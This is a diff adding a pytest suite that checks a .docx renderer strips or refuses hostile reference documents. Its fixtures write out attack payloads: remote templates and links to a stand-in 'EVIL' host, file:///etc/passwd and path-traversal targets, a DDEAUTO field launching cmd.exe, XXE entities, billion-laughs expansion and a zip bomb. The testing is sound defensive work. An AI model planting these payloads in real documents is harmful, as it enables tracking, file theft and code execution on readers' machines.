@@ -1,0 +1,323 @@
+"""Hostile reference documents: nothing but their look reaches the rendered .docx."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from collections.abc import Mapping
+from pathlib import Path
+
+import docx
+import pytest
+
+from tests.hostile.guarantees import assert_bounded, assert_no_crash, valid
+from tests.hostile.references import (
+    EVIL,
+    HEADER_TEXT,
+    R_NS,
+    Edit,
+    add_rel,
+    in_header,
+    inflating,
+    replace,
+    with_doctype,
+    write_reference,
+)
+from tests.hostile.runner import Run, run_cli
+
+HEADER = "word/header1.xml"
+HEADER_RELS = "word/_rels/header1.xml.rels"
+SETTINGS = "word/settings.xml"
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+DOCUMENT_RELS = "word/_rels/document.xml.rels"
+W_P = '<w:p xmlns:r="' + R_NS + '">'
+
+LINKS: dict[str, Mapping[str, Edit]] = {
+    "attached-remote-template": {
+        SETTINGS: replace(
+            "<w:defaultTabStop",
+            f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT"/><w:linkStyles/><w:defaultTabStop',
+        ),
+        SETTINGS_RELS: add_rel("rIdT", "attachedTemplate", f"https://{EVIL}/corp.dotm"),
+    },
+    "header-hyperlink-remote": {
+        HEADER: in_header(
+            f'{W_P}<w:hyperlink r:id="rIdL"><w:r><w:t>visit</w:t></w:r></w:hyperlink></w:p>'
+        ),
+        HEADER_RELS: add_rel("rIdL", "hyperlink", f"http://{EVIL}/track"),
+    },
+    "header-image-file-url": {
+        HEADER: in_header(
+            f'{W_P}<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
+            'drawingml/2006/main" r:link="rIdF"/></w:drawing></w:r></w:p>'
+        ),
+        HEADER_RELS: add_rel("rIdF", "image", "file:///etc/passwd"),
+    },
+    "header-vml-remote-image": {
+        HEADER: in_header(
+            f'{W_P}<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"'
+            ' xmlns:o="urn:schemas-microsoft-com:office:office">'
+            f'<v:imagedata o:href="http://{EVIL}/w.png" r:id="rIdV"/></v:shape></w:pict></w:r></w:p>'
+        ),
+        HEADER_RELS: add_rel("rIdV", "image", f"http://{EVIL}/w.png"),
+    },
+    "internal-target-outside-package": {
+        HEADER_RELS: add_rel("rIdX", "image", "../../../../etc/passwd", external=False),
+    },
+    "header-svg-picture": {
+        HEADER: in_header(
+            f'{W_P}<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
+            'drawingml/2006/main" r:embed="rIdG"/></w:drawing></w:r></w:p>'
+        ),
+        HEADER_RELS: add_rel("rIdG", "image", "media/pixel.svg", external=False),
+        "word/media/pixel.svg": (
+            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{EVIL}/p.png"/></svg>'
+        ).encode(),
+    },
+    "document-subdocument": {
+        DOCUMENT_RELS: add_rel("rIdS", "subDocument", f"https://{EVIL}/sub.docx"),
+    },
+}
+
+FIELDS: dict[str, Mapping[str, Edit]] = {
+    "includepicture-simple": {
+        HEADER: in_header(
+            f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/p.png&quot; \\d ">'
+            "<w:r><w:t>shown-result</w:t></w:r></w:fldSimple></w:p>"
+        )
+    },
+    "includetext-complex": {
+        HEADER: in_header(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
+            '<w:r><w:instrText xml:space="preserve">TEXT "file:///etc/passwd" </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown-result</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        )
+    },
+    "dde-nested-in-if": {
+        HEADER: in_header(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+            '<w:r><w:instrText>" ""</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown-result</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        )
+    },
+}
+
+
+def render_with(tmp_path: Path, reference: Path) -> Run:
+    source = valid(tmp_path, "doc.prd.yaml")
+    return run_cli("render", source, "--to", "docx", "--reference-doc", reference)
+
+
+def parts(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def rendered(tmp_path: Path, edits: Mapping[str, Edit]) -> dict[str, bytes]:
+    """The parts of the .docx rendered with a reference carrying `edits` (which must work)."""
+    reference = write_reference(tmp_path / "corp.docx", edits)
+    run = render_with(tmp_path, reference)
+    assert_no_crash(run)
+    assert run.returncode == 0, run.stderr
+    out = tmp_path / "doc.docx"
+    opened = docx.Document(str(out))
+    assert HEADER_TEXT in opened.sections[0].header.paragraphs[0].text  # the look survives
+    return parts(out)
+
+
+@pytest.mark.parametrize("case", list(LINKS))
+def test_no_relationship_leaves_the_package(tmp_path: Path, case: str) -> None:
+    found = rendered(tmp_path, LINKS[case])
+    everything = b"".join(found.values())
+    assert b'TargetMode="External"' not in everything
+    assert EVIL.encode() not in everything and b"file:///" not in everything
+    assert b"attachedTemplate" not in everything and b"linkStyles" not in everything
+    assert b"etc/passwd" not in everything
+    # Every r:id left in a part names a relationship of that part.
+    for name, data in found.items():
+        if not name.endswith(".xml") or name.startswith("["):
+            continue
+        rels_name = name.rsplit("/", 1)[0] + "/_rels/" + name.rsplit("/", 1)[1] + ".rels"
+        rels = found.get(rels_name, b"")
+        for used in _relationship_ids(data):
+            assert f'Id="{used}"'.encode() in rels, (case, name, used)
+
+
+def _relationship_ids(data: bytes) -> set[str]:
+    from lxml import etree
+
+    root = etree.fromstring(data)
+    return {
+        value
+        for element in root.iter()
+        for key, value in element.attrib.items()
+        if key.startswith(f"{{{R_NS}}}")
+    }
+
+
+def test_header_picture_inside_the_package_is_kept(tmp_path: Path) -> None:
+    found = rendered(tmp_path, {})
+    assert any(name.startswith("word/media/") for name in found)
+    assert b"r:embed" in found[HEADER] or b":embed=" in found[HEADER]
+
+
+@pytest.mark.parametrize("case", list(FIELDS))
+def test_fields_that_fetch_or_run_give_way_to_their_result(tmp_path: Path, case: str) -> None:
+    found = rendered(tmp_path, FIELDS[case])
+    header = found[HEADER]
+    for word in (b"INCLUDEPICTURE", b"INCLUDE", b"DDEAUTO", b"cmd.exe", EVIL.encode()):
+        assert word not in header, (case, word)
+    assert b"shown-result" in header
+
+
+def test_safe_fields_stay(tmp_path: Path) -> None:
+    found = rendered(
+        tmp_path,
+        {
+            HEADER: in_header(
+                '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
+            )
+        },
+    )
+    assert b'w:instr=" PAGE "' in found[HEADER]
+
+
+SECRET = "secret-canary-91c4"
+
+
+@pytest.mark.parametrize(
+    "part", ["word/styles.xml", "word/fontTable.xml", "word/document.xml", "[Content_Types].xml"]
+)
+def test_a_dtd_in_any_part_is_refused(tmp_path: Path, part: str) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text(SECRET, encoding="utf-8")
+    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
+    reference = write_reference(tmp_path / "corp.docx", {part: with_doctype(doctype)})
+    run = render_with(tmp_path, reference)
+    assert_no_crash(run)
+    assert run.returncode == 2, run.stderr
+    assert "declares a DTD" in run.stderr
+    assert SECRET not in run.stdout + run.stderr
+    assert not (tmp_path / "doc.docx").exists()
+
+
+def test_a_part_named_as_no_xml_is_still_parsed_as_xml(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text(SECRET, encoding="utf-8")
+    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
+    reference = write_reference(
+        tmp_path / "corp.docx",
+        {
+            DOCUMENT_RELS: replace('Target="styles.xml"', 'Target="styles.bin"'),
+            "[Content_Types].xml": replace(
+                'PartName="/word/styles.xml"', 'PartName="/word/styles.bin"'
+            ),
+            "word/styles.bin": lambda old: with_doctype(doctype)(
+                b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/'
+                b'wordprocessingml/2006/main"><w:x>&e;</w:x></w:styles>'
+            ),
+        },
+    )
+    run = render_with(tmp_path, reference)
+    assert_no_crash(run)
+    assert run.returncode == 2 and "declares a DTD" in run.stderr
+    assert SECRET not in run.stdout + run.stderr
+
+
+def test_entity_expansion_is_refused(tmp_path: Path) -> None:
+    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+    doctype = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>'
+    reference = write_reference(
+        tmp_path / "corp.docx",
+        {
+            "word/styles.xml": lambda old: with_doctype(doctype)(old).replace(
+                b"</w:styles>", b"<w:x>&l9;</w:x></w:styles>"
+            )
+        },
+    )
+    run = render_with(tmp_path, reference)
+    assert_no_crash(run)
+    assert run.returncode == 2, run.stderr
+    assert_bounded(run)
+
+
+@pytest.mark.parametrize("declared", [None, 1000], ids=["honest", "lying"])
+def test_a_part_that_inflates_past_the_bound_is_refused_unread(tmp_path: Path, declared) -> None:
+    # 256 MiB of styles: read whole, more than 500 MB of peak memory; refused, a few dozen.
+    reference = inflating(tmp_path / "bomb.docx", "word/styles.xml", 256 << 20, declared)
+    assert reference.stat().st_size < 2 << 20
+    run = render_with(tmp_path, reference)
+    assert_no_crash(run)
+    assert run.returncode == 2, run.stderr
+    assert "bomb.docx" in run.stderr
+    assert_bounded(run)
+
+
+ODD_NUMBERS: dict[str, Mapping[str, Edit]] = {
+    "page-width-1e999": {
+        "word/document.xml": replace('<w:pgSz w:w="12240"', '<w:pgSz w:w="1e999"'),
+    },
+    "superscript-font-size": {
+        "word/styles.xml": replace('<w:sz w:val="22"/>', '<w:sz w:val="²⁴"/>'),
+    },
+    "five-thousand-digit-list-id": {
+        "word/numbering.xml": replace('w:abstractNumId="0"', f'w:abstractNumId="{"9" * 5000}"'),
+    },
+    "five-thousand-digit-relationship-id": {
+        DOCUMENT_RELS: replace('Id="rId3"', f'Id="rId{"7" * 5000}"'),
+    },
+}
+
+
+def assert_renders(tmp_path: Path, edits: Mapping[str, Edit]) -> None:
+    """The render with a reference carrying `edits` succeeds, and Word can open the result."""
+    reference = write_reference(tmp_path / "corp.docx", edits)
+    run = render_with(tmp_path, reference)
+    assert_no_crash(run)
+    assert run.returncode == 0, run.stderr
+    docx.Document(io.BytesIO((tmp_path / "doc.docx").read_bytes()))
+
+
+@pytest.mark.parametrize("case", list(ODD_NUMBERS))
+def test_odd_numbers_are_read_as_absent(tmp_path: Path, case: str) -> None:
+    assert_renders(tmp_path, ODD_NUMBERS[case])
+
+
+# Relationships that make one part stand for another: each is dropped, the render goes on.
+TANGLED: dict[str, Mapping[str, Edit]] = {
+    "styles-are-the-body": {
+        DOCUMENT_RELS: replace('Target="styles.xml"', 'Target="document.xml"'),
+    },
+    "header-is-the-styles": {
+        DOCUMENT_RELS: replace('Target="header1.xml"', 'Target="styles.xml"'),
+    },
+    "numbering-is-a-picture": {
+        DOCUMENT_RELS: replace('Target="numbering.xml"', 'Target="media/image1.png"'),
+    },
+    "settings-are-the-theme": {
+        DOCUMENT_RELS: replace('Target="settings.xml"', 'Target="theme/theme1.xml"'),
+    },
+    "two-style-sheets": {
+        DOCUMENT_RELS: add_rel("rId99", "styles", "styles.xml", external=False),
+    },
+}
+
+
+@pytest.mark.parametrize("case", list(TANGLED))
+def test_a_part_lends_one_thing_as_what_it_is(tmp_path: Path, case: str) -> None:
+    assert_renders(tmp_path, TANGLED[case])
+
+
+def test_a_main_part_that_is_no_document_is_refused(tmp_path: Path) -> None:
+    edit = {"_rels/.rels": replace('Target="word/document.xml"', 'Target="word/styles.xml"')}
+    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", edit))
+    assert_no_crash(run)
+    assert run.returncode == 2, run.stderr
+    assert "corp.docx" in run.stderr and "BytesIO" not in run.stderr
